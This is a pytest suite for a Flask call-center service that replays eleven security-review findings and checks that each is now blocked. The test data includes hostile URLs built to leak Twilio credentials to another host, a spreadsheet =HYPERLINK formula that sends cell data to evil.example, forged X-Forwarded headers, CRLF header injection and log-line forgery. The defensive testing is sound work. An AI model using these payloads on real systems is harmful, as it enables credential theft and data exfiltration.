"""The eleven failures of the security review, each replayed as a hostile client would.

Every test here reproduced its failure on the code before the fix: credentials sent to
another host (1), bodies read in full before the signature check (2), a logged-out
cookie that still worked (3), formulas in the directory export (4), trivial production
secrets (5), names on /readyz (6), throttling that told real names apart and locked
their owners out, per process and per load balancer (7), another host's signature
accepted through forged X-Forwarded-* headers (8), caller numbers in gunicorn's access
log and in CLI output (9), forged log lines (10), and 500s on hostile input (11).
"""

from __future__ import annotations

import io
import re
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient

from callcenter.access.tokens import create_token
from callcenter.app import create_app
from callcenter.cli import main
from callcenter.cli.context import CliContext
from callcenter.db import transaction
from callcenter.db.models import Call, Contact
from callcenter.errors import ConfigurationError, TelephonyRejected
from callcenter.logs import configure_logging
from callcenter.roster.importer import import_roster
from callcenter.services import Services
from callcenter.settings import Settings
from tests.conftest import ROOT, TEST_ACCOUNT_SID, MutableClock
from tests.console_helpers import PASSWORD, add_call, add_user, at, csrf_of, login
from tests.processes import VENV_BIN, free_port, service_env, wait_until
from tests.twilio_requests import fixture, signature

HTML = {"Accept": "text/html"}
RECORDING_SID = "RE" + "c3" * 16
TWILIO_PATH = f"/2010-04-01/Accounts/{TEST_ACCOUNT_SID}/Recordings/{RECORDING_SID}"
EXAMPLE_ROSTER = (ROOT / "scripts" / "examples" / "roster.yaml").read_text(encoding="utf-8")


# ------------------------------------------- 1. Twilio credentials sent to another host


class Listener:
    """A local TCP listener standing for the attacker's host: counts every connection."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(65536))
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\n\r\nID3")
                except OSError:
                    self.connections.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def hostile_urls(port: int) -> list[str]:
    here = f"127.0.0.1:{port}"
    return [
        # urlsplit sees api.twilio.com; requests/urllib3 end the host at the backslash.
        f"http://{here}\\@api.twilio.com{TWILIO_PATH}",
        f"https://{here}\\@api.twilio.com{TWILIO_PATH}",
        f"https://{here}@api.twilio.com{TWILIO_PATH}",
        f"https://api.twilio.com@{here}{TWILIO_PATH}",
        f"http://{here}{TWILIO_PATH}",
        f"https://api.twilio.com\t@{here}{TWILIO_PATH}",
    ]


def test_1_no_recording_url_sends_the_credentials_anywhere_but_twilio(
    make_services: Any, listener: Listener
) -> None:
    # As in production: no TWILIO_API_BASE_URL, so a URL that passed the check would be
    # requested as it is.
    services = make_services(twilio_api_base_url=None)
    for url in hostile_urls(listener.port):
        with pytest.raises(TelephonyRejected, match="credentials not sent"):
            services.telephony.fetch_recording(url)
        for elsewhere in (
            f"https://api.twilio.com/2010-04-01/Accounts/AC{'9' * 32}/Recordings/{RECORDING_SID}",
            f"https://api.twilio.com{TWILIO_PATH}?redirect=http://127.0.0.1:{listener.port}/",
        ):
            with pytest.raises(TelephonyRejected, match="credentials not sent"):
                services.telephony.fetch_recording(elsewhere)
    assert listener.connections == []


def test_1_an_unsigned_webhook_cannot_plant_the_url_and_playing_it_sends_nothing(
    make_services: Any, listener: Listener
) -> None:
    # Signatures off (allowed outside production): one unsigned request is all it takes.
    services = make_services(twilio_api_base_url=None, validate_signatures=False)
    app = create_app(services=services)
    hostile = hostile_urls(listener.port)[0]
    sid = "CA" + "e1" * 16
    with transaction(services.sessions) as session:
        add_call(session, sid, at(-10))
    webhook = app.test_client().post(
        "/webhooks/voice/recording-status?kind=description",
        data=fixture(
            "recording_status", CallSid=sid, RecordingSid=RECORDING_SID, RecordingUrl=hostile
        ),
    )
    assert webhook.status_code in (204, 400)
    with services.sessions() as session:
        call = session.query(Call).filter_by(call_sid=sid).one()
        assert call.recording_url != hostile
        # A row written before the fix (or by any other way) still carries it:
        call.recording_sid, call.recording_url = RECORDING_SID, hostile
        session.commit()
    add_user(services, "head", "supervisor")
    client = app.test_client()
    login(client, "head")
    played = client.get(f"/console/calls/{sid}/recording")
    assert played.status_code == 502
    assert "Twilio отказал" in played.get_data(as_text=True)
    assert listener.connections == []


def test_1_a_redirect_from_the_recording_url_is_not_followed_with_credentials(
    make_services: Any, listener: Listener
) -> None:
    class Redirecting(Listener):
        def _serve(self) -> None:
            while not self._stop.is_set():
                try:
                    conn, _ = self.sock.accept()
                except OSError:
                    continue
                with conn:
                    self.connections.append(conn.recv(65536))
                    conn.sendall(
                        f"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{listener.port}/x\r\n"
                        "Content-Length: 0\r\n\r\n".encode()
                    )

    twilio = Redirecting()
    try:
        services = make_services(twilio_api_base_url=f"http://127.0.0.1:{twilio.port}")
        with pytest.raises(TelephonyRejected, match="redirected"):
            services.telephony.fetch_recording(f"https://api.twilio.com{TWILIO_PATH}")
        assert len(twilio.connections) == 1  # the stand-in for Twilio was asked, once
    finally:
        twilio.close()
    assert listener.connections == []


# ------------------------------------------- 2. request size bounded before the body is read


@pytest.fixture
def served(app: Flask) -> Iterator[int]:
    """The app behind a real HTTP server (werkzeug's), on a free local port."""
    from werkzeug.serving import make_server

    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.port
    server.shutdown()
    thread.join(timeout=10)


@pytest.mark.parametrize(
    ("path", "content_type"),
    [
        ("/webhooks/voice/incoming", "application/x-www-form-urlencoded"),
        ("/console/login", "multipart/form-data; boundary=xyz"),
        ("/api/calls", "application/json"),
    ],
)
def test_2_a_100_mb_body_is_refused_with_413_before_it_is_read(
    served: int, path: str, content_type: str
) -> None:
    # The client announces 100 MB and sends 1 KB: the answer must come at once, before
    # the rest (never sent) could be read — a server reading the body would wait.
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {100 * 1024 * 1024}\r\nX-Twilio-Signature: forged\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", served), timeout=10) as conn:
        conn.sendall(head.encode() + b"a" * 1024)
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = conn.recv(4096)
            if not chunk:
                break
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]


def test_2_a_webhook_of_a_real_size_is_still_served(client: FlaskClient) -> None:
    from tests.twilio_requests import signed_post

    response = signed_post(client, "/webhooks/voice/incoming", fixture("incoming_call"))
    assert response.status_code == 200


# ------------------------------------------- 3. logout, a new password, sign out everywhere


def test_3_a_cookie_copied_before_logout_no_longer_works(app: Flask, services: Services) -> None:
    add_user(services, "head", "supervisor")
    browser = app.test_client()
    login(browser, "head")
    cookie = browser.get_cookie("session")
    assert cookie is not None
    thief = app.test_client()
    thief.set_cookie("session", cookie.value)
    assert thief.get("/console/").status_code == 200
    browser.post("/console/logout", data={"csrf_token": csrf_of(browser)})
    copied = thief.get("/console/", headers=HTML)
    assert copied.status_code == 302
    assert copied.headers["Location"].startswith("/console/login")


def test_3_a_supervisor_signs_a_user_out_everywhere(app: Flask, services: Services) -> None:
    add_user(services, "head", "supervisor")
    add_user(services, "ivanov", "specialist")
    laptop = app.test_client()
    login(laptop, "ivanov")
    assert laptop.get("/console/").status_code == 200
    head = app.test_client()
    login(head, "head")
    done = head.post(
        "/console/sign-out-everywhere", data={"csrf_token": csrf_of(head), "name": "ivanov"}
    )
    assert done.status_code == 302
    assert "Все сеансы пользователя ivanov завершены." in head.get("/console/").get_data(
        as_text=True
    )
    assert laptop.get("/console/", headers=HTML).status_code == 302
    # A specialist may not do it to anyone.
    login(laptop, "ivanov")
    refused = laptop.post(
        "/console/sign-out-everywhere", data={"csrf_token": csrf_of(laptop), "name": "head"}
    )
    assert refused.status_code == 403
    assert head.get("/console/").status_code == 200


def test_3_a_new_password_or_the_cli_ends_every_session(app: Flask, services: Services) -> None:
    add_user(services, "head", "supervisor")
    browser = app.test_client()
    login(browser, "head")
    result = CliRunner().invoke(main, ["user", "sign-out", "head"], obj=CliContext(services))
    assert result.exit_code == 0, result.output
    assert "every console session of head is signed out" in result.stdout
    assert browser.get("/console/", headers=HTML).status_code == 302
    login(browser, "head")
    new = CliRunner().invoke(
        main,
        ["user", "passwd", "head", "--password-stdin"],
        obj=CliContext(services),
        input="a brand new passphrase\n",
    )
    assert new.exit_code == 0, new.output
    assert browser.get("/console/", headers=HTML).status_code == 302


# ------------------------------------------- 4. the directory export writes no formulas

HOSTILE_DIRECTORY = (
    "organisation;inn;contact;phones;email\n"
    '"=HYPERLINK(""http://evil.example/?x=""&A1,""Открыть"")";;"+SUM(1;2)";+79161234567;\n'
    "@cmd;;-2+3;+79161234568;\n"
)


def test_4_the_directory_export_neutralises_formulas_and_imports_back_unchanged(
    client: FlaskClient, services: Services
) -> None:
    add_user(services, "head", "supervisor")
    login(client, "head")
    imported = client.post(
        "/console/directory/import",
        data={
            "csrf_token": csrf_of(client),
            "file": (io.BytesIO(HOSTILE_DIRECTORY.encode()), "evil.csv"),
        },
    )
    assert imported.status_code == 302, imported.get_data(as_text=True)
    exported = client.get("/console/directory/export.csv")
    text = exported.get_data().decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in _cells(line)]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formulas == []
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Открыть")' in cells
    assert "'+SUM(1;2)" in cells and "'@cmd" in cells and "'-2+3" in cells
    # The export is still the import format: it imports back without a change.
    again = client.post(
        "/console/directory/import",
        data={"csrf_token": csrf_of(client), "file": (io.BytesIO(exported.data), "back.csv")},
    )
    assert again.status_code == 302
    with services.sessions() as session:
        names = sorted(contact.name for contact in session.query(Contact))
    assert names == ["+SUM(1;2)", "-2+3"]


def _cells(line: str) -> list[str]:
    import csv

    return next(csv.reader([line], delimiter=";"))


# ------------------------------------------- 5. production refuses trivial secrets


def production_env(**changes: str) -> dict[str, str]:
    return {
        "CALLCENTER_ENV": "production",
        "TWILIO_ACCOUNT_SID": TEST_ACCOUNT_SID,
        "TWILIO_AUTH_TOKEN": "t" * 32,
        "PUBLIC_BASE_URL": "https://hotline.example",
        "SECRET_KEY": "k" * 32,
        "DATABASE_URL": "postgresql+psycopg://u@127.0.0.1:9/db",
        "DUTY_PHONE": "+79110000001",
        **changes,
    }


@pytest.mark.parametrize(("name", "value"), [("SECRET_KEY", "x"), ("BUILTIN_PORTAL_TOKEN", "a")])
def test_5_production_start_up_refuses_a_trivial_secret(name: str, value: str) -> None:
    with pytest.raises(ConfigurationError) as refused:
        Settings.from_env(production_env(**{name: value}))
    message = str(refused.value)
    assert name in message and "32 characters" in message
    assert "secrets.token_urlsafe(32)" in message
    Settings.from_env(production_env(**{name: "s" * 32}))  # long enough: starts


def test_5_the_real_command_refuses_to_start(tmp_path: Path) -> None:
    result = subprocess.run(
        [str(VENV_BIN / "callcenter"), "db", "upgrade"],
        env=service_env(**production_env(SECRET_KEY="x")),
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )
    assert result.returncode != 0
    assert "SECRET_KEY too short" in result.stderr


# ------------------------------------------- 6. /readyz tells strangers nothing


def test_6_readyz_names_nobody_to_an_anonymous_caller(
    client: FlaskClient, services: Services
) -> None:
    with services.sessions.begin() as session:
        import_roster(session, EXAMPLE_ROSTER)
    head_name = "Смирнова"
    anonymous = client.get("/readyz")
    assert anonymous.get_json() == {
        "status": "ready",
        "checks": {"database": "ok", "redis": "ok", "roster": "ok"},
    }
    with transaction(services.sessions) as session:
        secret = create_token(session, "probe", now=services.clock()).secret
    detailed = client.get("/readyz", headers={"Authorization": f"Bearer {secret}"}).get_json()
    assert "warnings" in detailed
    assert head_name not in anonymous.get_data(as_text=True)


# ------------------------------------------- 7. login throttling


def test_7_known_and_unknown_names_are_throttled_alike_across_processes(
    make_services: Any, services: Services, redis_url: str, queue_name: str
) -> None:
    add_user(services, "head", "supervisor")
    shared = {"redis_url": redis_url, "queue_name": queue_name}
    # Two web processes (gunicorn workers, machines): one count in Redis.
    first = create_app(services=make_services(**shared)).test_client()
    second = create_app(services=make_services(**shared)).test_client()
    seen: dict[str, list[int]] = {}
    for name in ("head", "nobody"):
        statuses = []
        for n in range(6):
            client = first if n % 2 == 0 else second
            statuses.append(login(client, name, "wrong password").status_code)
        seen[name] = statuses
    assert seen["head"] == seen["nobody"] == [401] * 5 + [429]


def test_7_the_right_password_is_not_locked_out_by_an_attackers_guesses(
    app: Flask, services: Services
) -> None:
    add_user(services, "head", "supervisor")
    attacker = app.test_client()
    for _ in range(4):
        assert login(attacker, "head", "wrong password").status_code == 401
    # No account lock: the user still gets in (the old code locked it for 15 minutes
    # after 5 failures, right password or not, and said so only for real names).
    assert login(app.test_client(), "head").status_code == 302


def test_7_the_client_address_comes_from_x_forwarded_for_only_through_trusted_proxies(
    make_services: Any, services: Services
) -> None:
    add_user(services, "head", "supervisor")
    behind_lb = create_app(services=make_services(trusted_proxies=1))
    balancer = {"REMOTE_ADDR": "10.0.0.1"}
    for n in range(20):
        client = behind_lb.test_client()
        client.environ_base.update(balancer)
        response = login_from(client, f"guess{n}", "wrong", "203.0.113.7")
        assert response.status_code == 401
    blocked = behind_lb.test_client()
    blocked.environ_base.update(balancer)
    assert login_from(blocked, "head", PASSWORD, "203.0.113.7").status_code == 429
    # Another client behind the same load balancer is not blocked with the attacker.
    other = behind_lb.test_client()
    other.environ_base.update(balancer)
    assert login_from(other, "head", PASSWORD, "198.51.100.9").status_code == 302

    # Without a trusted proxy, a forged X-Forwarded-For does not buy a fresh count.
    direct = create_app(services=make_services())
    for n in range(20):
        client = direct.test_client()
        login_from(client, f"guess{n}", "wrong", f"192.0.2.{n}")
    forged = direct.test_client()
    assert login_from(forged, "head", PASSWORD, "192.0.2.200").status_code == 429


def login_from(client: FlaskClient, name: str, password: str, address: str) -> Any:
    headers = {"X-Forwarded-For": address}
    page = client.get("/console/login", headers=headers)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.get_data(as_text=True))
    assert token is not None
    return client.post(
        "/console/login",
        data={"name": name, "password": password, "csrf_token": token.group(1)},
        headers=headers,
    )


# ------------------------------------------- 8. forwarded headers only from trusted proxies


EVIL_HOOK = "https://evil.example/hook/webhooks/voice/incoming"


def test_8_another_hosts_signature_is_refused_through_forged_forwarded_headers(
    make_services: Any,
) -> None:
    params = fixture("incoming_call")
    forged = {
        "X-Twilio-Signature": signature(
            "https://evil.example/hook/webhooks/voice/incoming", params
        ),
        "X-Forwarded-Proto": "https",
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Prefix": "/hook",
    }
    direct = create_app(services=make_services(public_base_url=None)).test_client()
    assert direct.post("/webhooks/voice/incoming", data=params, headers=forged).status_code == 403
    # The URL the request really reached is what counts.
    real = {"X-Twilio-Signature": signature("http://localhost/webhooks/voice/incoming", params)}
    assert direct.post("/webhooks/voice/incoming", data=params, headers=real).status_code == 200


# ------------------------------------------- 9. numbers masked in every way the service runs


def test_9_callcenter_serve_masks_numbers_in_gunicorns_access_log(tmp_path: Path) -> None:
    port = free_port()
    log_path = tmp_path / "serve.log"
    env = service_env(
        CALLCENTER_DATA_DIR=str(tmp_path / "data"),
        DATABASE_URL=None,
        REDIS_URL=None,
        CALLCENTER_ENV=None,
        LOG_JSON="0",
    )
    with log_path.open("wb") as out:
        server = subprocess.Popen(
            [str(VENV_BIN / "callcenter"), "serve", "--port", str(port), "--threads", "2"],
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            cwd=tmp_path,
            start_new_session=True,
        )
        try:
            base = f"http://127.0.0.1:{port}"
            wait_until(
                lambda: requests.get(f"{base}/healthz", timeout=1).ok,
                timeout=60,
                what="callcenter serve",
                on_timeout=lambda: log_path.read_text("utf-8", "replace"),
            )
            answer = requests.get(f"{base}/api/calls?q=%2B79161234567", timeout=5)
            assert answer.status_code == 401
            wait_until(
                lambda: "/api/calls" in log_path.read_text("utf-8", "replace"),
                timeout=10,
                what="the access line",
            )
        finally:
            server.terminate()
            server.wait(timeout=30)
    text = log_path.read_text("utf-8", "replace")
    access = [line for line in text.splitlines() if "/api/calls" in line]
    assert access, text
    assert "79161234567" not in text
    assert any("7916***4567" in line for line in access), access


def test_9_cli_output_masks_numbers_unless_unmasked(services: Services) -> None:
    from tests.test_directory import GOOD

    runner = CliRunner()
    runner.invoke(main, ["directory", "import", str(GOOD)], obj=CliContext(services))
    masked = runner.invoke(main, ["directory", "find", "+79161234567"], obj=CliContext(services))
    assert masked.exit_code == 0
    assert "+7916***4567" in masked.stdout and "123-45-67" not in masked.stdout
    full = runner.invoke(
        main, ["--unmasked", "directory", "find", "+79161234567"], obj=CliContext(services)
    )
    assert "+7 916 123-45-67" in full.stdout


# ------------------------------------------- 10. no forged log lines


def test_10_a_newline_in_the_request_path_cannot_forge_a_log_line(
    client: FlaskClient, services: Services
) -> None:
    stream = io.StringIO()
    try:
        configure_logging(services.settings.with_(log_json=False), stream=stream)
        client.get("/console/%0A2025-11-27 11:00:00,000 INFO callcenter.http: GET /admin 200")
    finally:
        configure_logging(services.settings)
    lines = stream.getvalue().splitlines()
    assert not any(line.startswith("2025-11-27 11:00:00,000") for line in lines), lines
    assert any("\\n2025-11-27 11:00:00,000 INFO" in line for line in lines), lines


# ------------------------------------------- 11. hostile input is a 400, never a 500


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_11_out_of_range_dates_are_a_400_everywhere(
    client: FlaskClient, services: Services, day: str
) -> None:
    with transaction(services.sessions) as session:
        secret = create_token(session, "api", now=services.clock()).secret
    api = client.get(
        f"/api/calls?from={day}&to={day}", headers={"Authorization": f"Bearer {secret}"}
    )
    assert api.status_code == 400
    assert "out of range" in api.get_json()["message"]
    add_user(services, "head", "supervisor")
    login(client, "head")
    for url in (
        f"/console/?from={day}",
        f"/console/?to={day}",
        f"/console/calls.csv?from={day}",
        f"/console/calls.csv?to={day}",
        f"/console/dashboard?from={day}",
        f"/console/dashboard?to={day}",
        f"/console/roster?at={day}T10:00",
    ):
        response = client.get(url, headers=HTML)
        assert response.status_code == 400, (url, response.status_code)
        assert "диапазон" in response.get_data(as_text=True) or "out of range" in (
            response.get_data(as_text=True)
        ), url


def test_11_cr_lf_in_the_login_next_is_no_500(client: FlaskClient, services: Services) -> None:
    add_user(services, "head", "supervisor")
    page = client.get("/console/login?next=/console/%0D%0ASet-Cookie:%20x=1")
    assert page.status_code == 200
    done = client.post(
        "/console/login",
        data={
            "name": "head",
            "password": PASSWORD,
            "csrf_token": csrf_of(client),
            "next": "/console/\r\nSet-Cookie: x=1",
        },
    )
    assert done.status_code == 302
    assert done.headers["Location"] == "/console/"


NUL_FILE = b"organisation;contact;phones\nACME\x00;Ivan;+79161234567\n"


def test_11_a_nul_in_a_console_form_or_the_directory_import_is_a_400(
    client: FlaskClient, services: Services, clock: MutableClock
) -> None:
    sid = "CA" + "f1" * 16
    with transaction(services.sessions) as session:
        add_call(session, sid, at(-5))
    add_user(services, "head", "supervisor")
    login(client, "head")
    note = client.post(
        f"/console/calls/{sid}/notes",
        data={"csrf_token": csrf_of(client), "text": "перезвонить\x00"},
        headers=HTML,
    )
    assert note.status_code == 400
    assert "NUL" in note.get_data(as_text=True)
    upload = client.post(
        "/console/directory/import",
        data={
            "csrf_token": csrf_of(client),
            "file": (
                io.BytesIO(b"organisation;contact;phones\nACME\x00;Ivan;+79161234567\n"),
                "x.csv",
            ),
        },
        headers=HTML,
    )
    assert upload.status_code == 400
    login_nul = client.post(
        "/console/login",
        data={"csrf_token": csrf_of(client), "name": "he\x00ad", "password": "x"},
        headers=HTML,
    )
    assert login_nul.status_code == 400
    with services.sessions() as session:
        call = session.query(Call).filter_by(call_sid=sid).one()
        assert call.notes == []
        assert session.query(Contact).count() == 0


def test_11_a_nul_in_a_directory_file_is_refused_by_the_importer_itself(
    services: Services, tmp_path: Path
) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(NUL_FILE)
    result = CliRunner().invoke(main, ["directory", "import", str(path)], obj=CliContext(services))
    assert result.exit_code == 2
    assert "nul.csv:2: в файле нулевой символ" in result.stderr
